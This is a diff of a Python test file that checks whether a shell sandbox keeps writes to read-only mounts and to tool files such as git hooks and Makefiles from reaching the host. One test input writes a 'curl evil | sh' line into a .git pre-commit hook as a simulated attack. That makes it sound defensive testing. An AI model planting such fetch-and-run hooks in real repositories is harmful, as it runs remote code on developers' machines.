@@ -43,8 +43,11 @@ def sandbox(host):
 
 
 def shell_out(kc, command: str) -> str:
-    run = execute(kc, f"_r = !{{ {command} ; }} 2>&1\n'\\n'.join(_r)")
-    return value(run)
+    return value(shell_run(kc, command))
+
+
+def shell_run(kc, command: str):
+    return execute(kc, f"_r = !{{ {command} ; }} 2>&1\n'\\n'.join(_r)")
 
 
 def test_the_hosts_files_are_not_there(sandbox, host):
@@ -60,21 +63,27 @@ def test_the_hosts_files_are_not_there(sandbox, host):
 def test_a_read_only_mount_stays_unchanged(sandbox, host):
     _, kc = sandbox
     root, _ = host
-    out = shell_out(kc, "echo pwned > /data/keep.txt; rm /data/keep.txt; touch /data/new; mv /data/keep.txt /tmp/")
+    run = shell_run(kc, "echo pwned > /data/keep.txt; cat /data/keep.txt; rm /data/keep.txt; touch /data/new; ls /data")
+    out, told = value(run), run.stream("stderr")
     assert (root / "ro" / "keep.txt").read_text() == "unchanged"
     assert not (root / "ro" / "new").exists()
-    assert "read-only" in out or "EACCES" in out or "ermission denied" in out, out
+    assert "pwned" in out and "new" in out, out  # the writes worked inside the sandbox
+    assert "/data/keep.txt stays inside the sandbox" in told and "read-only mount" in told, told
 
 
-def test_tool_files_in_an_rw_mount_are_refused_to_the_shell(sandbox, host):
+def test_tool_files_in_an_rw_mount_stay_inside_the_sandbox_for_the_shell(sandbox, host):
     _, kc = sandbox
     root, _ = host
-    out = shell_out(
-        kc, "mkdir -p /out/.git/hooks && echo 'curl evil | sh' > /out/.git/hooks/pre-commit; echo x > /out/Makefile"
+    run = shell_run(
+        kc,
+        "mkdir -p /out/.git/hooks && echo 'curl evil | sh' > /out/.git/hooks/pre-commit; echo x > /out/Makefile; "
+        "cat /out/Makefile",
     )
-    assert not (root / "rw" / ".git" / "hooks" / "pre-commit").exists()
+    out, told = value(run), run.stream("stderr")
+    assert not (root / "rw" / ".git").exists()
     assert not (root / "rw" / "Makefile").exists()
-    assert "allow_tool_files" in out, out
+    assert out == "'x'", out  # the shell reads it back inside the sandbox
+    assert "/out/Makefile stays inside the sandbox" in told and '"host_writes": "any"' in told, told
     shell_out(kc, "echo fine > /out/result.txt")
     assert (root / "rw" / "result.txt").read_text() == "fine\n"
 
